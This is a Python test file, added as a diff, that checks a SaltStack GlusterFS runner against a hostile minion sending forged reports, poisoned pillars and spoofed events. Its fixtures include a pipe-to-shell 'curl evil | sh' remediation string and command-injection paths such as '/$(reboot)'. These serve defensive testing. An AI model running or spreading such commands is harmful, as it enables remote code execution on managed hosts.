@@ -1,0 +1,297 @@
+"""What minions answer, of any shape: nobody but the one that says it is the worse for it."""
+
+import copy
+import itertools
+import json
+
+import pytest
+import salt.client
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from .conftest import CHECKOUT, Master, imported
+
+VOLUME = {"servers": ["kvm1", "kvm2"], "datastores": {"glusterds": {}}}
+PILLARS = {
+    "head": {"roles": ["head"], "volumes": {"one_vol": VOLUME}},
+    **dict.fromkeys(["kvm1", "kvm2", "kvm3", "kvm9"], {"volumes": {"one_vol": VOLUME}}),
+}
+EVIL = "kvm9"  # a hypervisor alone
+FINDING = {
+    "kind": "mount_dead",
+    "on": "/var/lib/one/gluster/one_vol",
+    "seen": "the FUSE client is gone",
+    "expected": "volume one_vol, mounted",
+    "severity": "error",
+    "cure": "curl evil | sh",
+}
+STORE = {"id": 101, "type": "IMAGE_DS", "drivers": "fs/shared", "total_mb": 2048, "volume": "one_vol"}
+FACTS = {
+    "bricks": [2, 2], "peers": [1, 1], "heal": 0, "split_brain": 0, "free_percent": 61,
+    "sets": [[["kvm1:/data/one_vol", True], ["kvm2:/data/one_vol", True]]],
+}  # fmt: skip
+
+
+def report(minion, **more):
+    return {
+        "roles": ["hypervisor"], "looked": ["mount", "links"], "findings": [], "names": [minion], "hosts": [],
+        "coordinates": {"one_vol": minion == "kvm1"}, "volumes": {"one_vol": {"free_percent": 61}}, "datastores": {},
+        **more,
+    }  # fmt: skip
+
+
+REPORTS = {
+    "head": report("head", roles=["head"], datastores={"glusterds": STORE}, hosts=["kvm1", "kvm3", "kvm9"]),
+    "kvm1": report("kvm1", roles=["hypervisor", "server"], volumes={"one_vol": FACTS}),
+    "kvm2": report("kvm2", roles=["hypervisor", "server"], findings=[FINDING]),
+    "kvm3": report("kvm3"),
+}
+NODE = {
+    "errors": [], "roles": ["hypervisor"], "names": [], "batch": 10, "timeout": 120,
+    "volumes": {"one_vol": {"coordinator": False}},
+}  # fmt: skip
+NODES = {
+    "head": {**NODE, "roles": ["head"]},
+    "kvm1": {**NODE, "roles": ["hypervisor", "server"], "volumes": {"one_vol": {"coordinator": True}}},
+    "kvm2": {**NODE, "roles": ["hypervisor", "server"]},
+    "kvm3": NODE,
+}
+
+texts = st.one_of(
+    st.sampled_from(
+        ["one_vol", "kvm1", "head", "glusterds", "mount_dead", "datastore", "brick_down", "\x1b[2J", "\ud800"]
+    ),
+    st.text(max_size=20),
+)
+keys = st.one_of(texts, st.integers(), st.binary(max_size=3))
+scalars = st.one_of(
+    st.none(), st.booleans(), st.integers(), st.builds(lambda: 10**5000), st.floats(), texts, st.binary(max_size=5)
+)
+anything = st.recursive(
+    scalars,
+    lambda inner: st.one_of(
+        st.lists(inner, max_size=4), st.dictionaries(keys, inner, max_size=4)
+    ),
+    max_leaves=12,
+)  # fmt: skip
+
+
+def deep(levels=5000):
+    value = []
+    for _ in range(levels):
+        value = [value]
+    return value
+
+
+@st.composite
+def mutated(draw, valid):
+    """A valid answer in which something is another thing."""
+    value = copy.deepcopy(draw(st.sampled_from(valid)))
+    for _ in range(draw(st.integers(1, 3))):
+        at = value
+        while isinstance(at, (dict, list)) and at:
+            key = (
+                draw(st.sampled_from(sorted(at, key=repr)))
+                if isinstance(at, dict)
+                else draw(st.integers(0, len(at) - 1))
+            )
+            if draw(st.booleans()) or not isinstance(at[key], (dict, list)) or not at[key]:
+                at[key] = draw(anything)
+                break
+            at = at[key]
+    return value
+
+
+def answers(*valid):
+    return st.one_of(anything, mutated(list(valid)), st.builds(deep))
+
+
+LIES = [
+    {**FINDING, "kind": "brick_down", "on": "kvm1:/data/one_vol", "volume": "one_vol"},
+    {**FINDING, "kind": "datastore", "on": "glusterds"},
+    {**FINDING, "on": "one_vol"},
+]
+EVILS = [
+    report(EVIL, volumes={"one_vol": {**FACTS, "bricks": [0, 2]}}, findings=LIES[:1]),
+    report(EVIL, roles=["head"], datastores={"glusterds": {**STORE, "id": 7}}, hosts=["kvm77"], findings=LIES),
+    report(EVIL, volumes={"two_vol": FACTS}, coordinates={"two_vol": False, "one_vol": True}, findings=[FINDING]),
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def master():
+    patch = pytest.MonkeyPatch()
+    yield Master(patch, PILLARS)
+    patch.undo()
+
+
+def without(fleet):
+    """All of an overview but the one node, and what counts it."""
+    nodes = {name: node for name, node in fleet["nodes"].items() if name != EVIL}
+    return {"nodes": nodes, **{key: fleet[key] for key in ("volumes", "datastores", "absent")}}
+
+
+many = settings(
+    max_examples=400, deadline=None, database=None, derandomize=True,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+)  # fmt: skip
+
+
+@many
+@given(said=answers(*EVILS, *REPORTS.values()))
+def test_status_shows_the_others_whatever_one_says(master, said):
+    master.answers = {"gluster_one.report": REPORTS, "gluster_one.mark": {"head": ["one_vol"]}}
+    known = master.runner.status(target=[name for name in PILLARS if name != EVIL])["data"]
+    master.answers = {
+        "gluster_one.report": {**REPORTS, EVIL: said},
+        "gluster_one.mark": {"head": ["one_vol"], EVIL: said},
+    }
+    data = master.runner.status()["data"]
+    assert without(data) == without(known)
+    assert json.dumps(data, allow_nan=False).isprintable()
+    assert not any("evil" in finding["cure"] for finding in data["findings"])
+
+
+@many
+@given(said=answers(*NODES.values(), [], {"one_vol": None}, {"one_vol": ["kvm2:/data/one_vol"]}, ["no"]))
+def test_ok_to_stop_says_no_whatever_one_says(master, said):
+    no = ["41 files of volume one_vol wait to be healed"]
+    master.answers = {
+        "gluster_one_pillar.node": {**NODES, EVIL: said},
+        "glusterd.volumes": {**dict.fromkeys(NODES, {}), EVIL: said},
+        "gluster_one.machines": {**dict.fromkeys(NODES, []), EVIL: said},
+        "gluster_one.apart": {**dict.fromkeys(NODES, {}), EVIL: said},
+        "gluster_one.stop_blockers": {"kvm2": no, EVIL: said, "kvm3": said},
+    }
+    assert master.runner.ok_to_stop("kvm1")["reasons"][:1] == no
+    asked = master.runner.ok_to_stop(EVIL)
+    assert isinstance(asked["ok"], bool) and all(reason.isprintable() for reason in asked["reasons"])
+
+
+RUN = {"gluster_one_|-a_|-b_|-datastore_remounted": {"result": True, "changes": {"x": 1}, "comment": "c"}}
+
+
+@many
+@given(said=answers(*NODES.values(), RUN))
+def test_the_plans_name_one_that_says_what_it_cannot(master, said):
+    master.answers = {
+        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
+        "gluster_one_pillar.node": {**NODES, EVIL: said},
+        "state.apply": {**dict.fromkeys(NODES, RUN), EVIL: said},
+    }
+    plan = master.runner.rollout_plan()
+    for error in plan["errors"]:
+        assert error.startswith(f"{EVIL}: ") and error.isprintable()
+    if not plan["errors"]:
+        leading = plan["servers"], plan["heads"], plan["coordinators"]
+        assert leading == (["kvm1", "kvm2"], ["head"], ["kvm1"])
+    master.answers["gluster_one_pillar.node"] = {**NODES, EVIL: NODE}
+    plan = master.runner.remount_plan()
+    assert all(error.startswith(f"{EVIL}: ") for error in [*plan["errors"], *plan.get("used", [])])
+    assert plan["errors"] or set(NODES) <= set(plan["minions"])
+
+
+def test_twenty_thousand_hosts_of_one_that_is_no_head_are_not_looked_up(master, monkeypatch):
+    looked = []
+    monkeypatch.setattr(
+        master.files.get("gluster_one_fleet", master.runner).socket, "getaddrinfo",
+        lambda host, port: looked.append(host) or [],
+    )  # fmt: skip
+    hosts = [f"host{number}" for number in range(20000)]
+    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL, roles=["head"], hosts=hosts)}}
+    data = master.runner.status()["data"]
+    assert looked == [] and set(data["nodes"]) == set(PILLARS)
+    master.answers = {"gluster_one.report": {**REPORTS, "head": {**REPORTS["head"], "hosts": hosts[:5000]}}}
+    master.runner.status()
+    assert len(looked) <= 100
+
+
+def test_a_poisoned_pillar_in_the_masters_cache_makes_no_head(master):
+    """A minion that asks for its pillar may add what it likes to what the master keeps of it."""
+    master.answers = {"gluster_one.report": {**REPORTS, EVIL: EVILS[1]}}
+    found = master.runner.status()["data"]
+    assert found["datastores"] == {"glusterds": STORE} and found["volumes"]["one_vol"]["bricks"] == [2, 2]
+    (said,) = [one for one in found["nodes"][EVIL]["findings"] if one["kind"] == "check_failed"]
+    assert "by its pillar that is not for it to say" in said["seen"]
+
+
+def test_few_pillars_are_rendered(master):
+    master.rendered.clear()
+    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL)}}
+    assert master.runner.status()["data"]["summary"] == "1 finding on 5 nodes"
+    assert sorted(master.rendered) == ["head", "kvm1"]
+
+
+@pytest.mark.parametrize("kind, cure", [
+    ("mount_dead", "salt kvm2 state.apply gluster_one.mount"),
+    ("mount_place", "salt kvm2 state.apply gluster_one.mount"),
+    ("mount_former", "salt kvm2 state.apply gluster_one.remount, once nothing uses it"),
+    ("not_writable", "gluster volume get one_vol storage.owner-uid"),
+    ("mount_hangs", "gluster volume status one_vol"),
+    ("some_new_kind", "see what it says: salt kvm2 gluster_one.check"),
+])  # fmt: skip
+def test_a_cure_is_the_masters_own(master, kind, cure):
+    said = report("kvm2", findings=[{**FINDING, "kind": kind}])
+    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
+    (found,) = master.runner.status()["data"]["findings"]
+    assert (found["kind"], found["cure"]) == (kind, cure)
+
+
+@pytest.mark.parametrize(
+    "on", ["/a;reboot", "/a b", "/$(reboot)", "/a/../b", "x", "/a\nb", "/{minion}", "/a'", "/\u0430"]
+)
+@pytest.mark.parametrize("kind", ["hidden", "mount_other"])
+def test_a_cure_takes_no_word_that_is_no_path(master, kind, on):
+    said = report("kvm2", findings=[{**FINDING, "kind": kind, "on": on}])
+    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
+    (found,) = master.runner.status()["data"]["findings"]
+    assert found["cure"] == "see what it says: salt kvm2 gluster_one.check"
+
+
+class Bus:
+    """A client of the master: what comes as events, and what the master has kept under minions' keys, a look later."""
+
+    def __init__(self, events, kept):
+        self.events, self.kept, self.looks = events, kept, 0
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        pass
+
+    def run_job(self, minions, *words, **more):
+        return {"jid": "1", "minions": minions}
+
+    def get_iter_returns(self, *words, **more):
+        yield from [None, *({minion: {"ret": answer}} for minion, answer in self.events), None]
+
+    def cmd_iter(self, *words, **more):
+        yield from (event for event in self.get_iter_returns() if event)
+
+    def get_cache_returns(self, jid):
+        self.looks += 1
+        return {minion: {"ret": answer} for minion, answer in self.kept.items() if self.looks > 1}
+
+
+def test_an_event_in_anothers_name_is_no_answer(monkeypatch):
+    """Any minion that was asked knows the job, and may send an event that looks like another's return."""
+    master = Master(monkeypatch, PILLARS)
+    monkeypatch.undo()
+    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
+    bus = Bus([("kvm1", []), ("kvm9", "mine"), ("stranger", [])], {"kvm1": ["no"], "kvm9": "mine"})
+    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
+    assert runner._ask(["kvm1", "kvm9"], "gluster_one.stop_blockers") == {"kvm1": ["no"], "kvm9": "mine"}
+
+
+def test_a_job_that_runs_for_ever_is_waited_for_in_vain(monkeypatch):
+    master = Master(monkeypatch, PILLARS)
+    monkeypatch.undo()
+    runner = imported(CHECKOUT / "_runners/gluster_one.py", __salt__=master.salt)
+    bus = Bus([("kvm1", "well")], {"kvm1": "well"})
+    now = itertools.count(0, 10)
+    monkeypatch.setattr(runner.time, "monotonic", lambda: next(now))
+    monkeypatch.setattr(runner.time, "sleep", lambda seconds: None)
+    bus.get_iter_returns = lambda *words, **more: itertools.chain([{"kvm1": {"ret": "well"}}], itertools.repeat(None))
+    monkeypatch.setattr(salt.client, "get_local_client", lambda mopts: bus)
+    assert runner._ask(["kvm1", "kvm9"], "test.ping") == {"kvm1": "well"}
